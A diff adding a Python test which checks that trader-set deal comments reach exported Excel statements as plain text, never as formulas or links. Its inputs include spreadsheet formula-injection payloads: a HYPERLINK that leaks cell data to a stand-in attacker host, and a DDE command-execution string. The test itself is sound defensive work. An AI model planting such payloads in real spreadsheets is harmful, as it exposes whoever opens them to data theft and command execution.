@@ -164,3 +164,38 @@ def test_prices_are_written_to_their_symbols_digits() -> None:
     assert as_text(1500.0, Kind.LOTS, "UTC") == "1,500.00"
     assert price_format(5) == "#,##0.00000"
     assert price_format(0) == "#,##0"
+
+
+@pytest.mark.parametrize("comment", ['=HYPERLINK("https://evil.example/?leak="&A1,"Refund")',
+                                     "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1",
+                                     "https://evil.example/"])
+def test_trader_set_deal_comments_are_text_in_excel(comment: str) -> None:
+    """A deal comment is set by the trader (their terminal or EA) and reaches the statement: it is
+    written as a string cell holding exactly the comment, never as a formula or a link, and one
+    that starts like a formula carries Excel's quote prefix so editing it cannot make it one."""
+    from openpyxl import load_workbook
+
+    from models.deals import DealRecord
+
+    broker = SimulatedBroker(accounts=1, seed=3)
+    symbols = {spec.name: spec for spec in broker.symbols()}
+    board = {q.symbol: q for q in broker.poll().quotes}
+    detail = AccountHost(broker.accounts()[0], symbols, board).detail()
+    login = detail.figures.login
+    deal = DealRecord(tenant_id=1, login=login, ticket=99, executed_at=NOW - timedelta(hours=1), kind="buy",
+                      entry="in", symbol="EURUSD", volume=0.1, price=1.1, comment=comment)
+    request = ReportRequest(ReportType.ACCOUNT_STATEMENT, ReportFormat.XLSX, PERIOD, login)
+    inputs = Inputs("Broker", request, None, [], [], detail_row(detail), [deal])
+    content = render(build(inputs, top=25, generated_at=NOW), ReportFormat.XLSX).content
+    with zipfile.ZipFile(BytesIO(content)) as workbook:
+        sheets = [workbook.read(n).decode() for n in workbook.namelist() if "worksheets/sheet" in n]
+        assert not any("<f>" in sheet for sheet in sheets)
+        assert not any("hyperlink" in n for n in workbook.namelist())
+    book = load_workbook(BytesIO(content))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
+             if cell.value == comment]
+    assert cells, "the comment is not in the workbook as written"
+    for cell in cells:
+        assert cell.data_type == "s"
+        assert cell.hyperlink is None
+        assert cell.quotePrefix is (comment[0] in "=+-@\t\r")
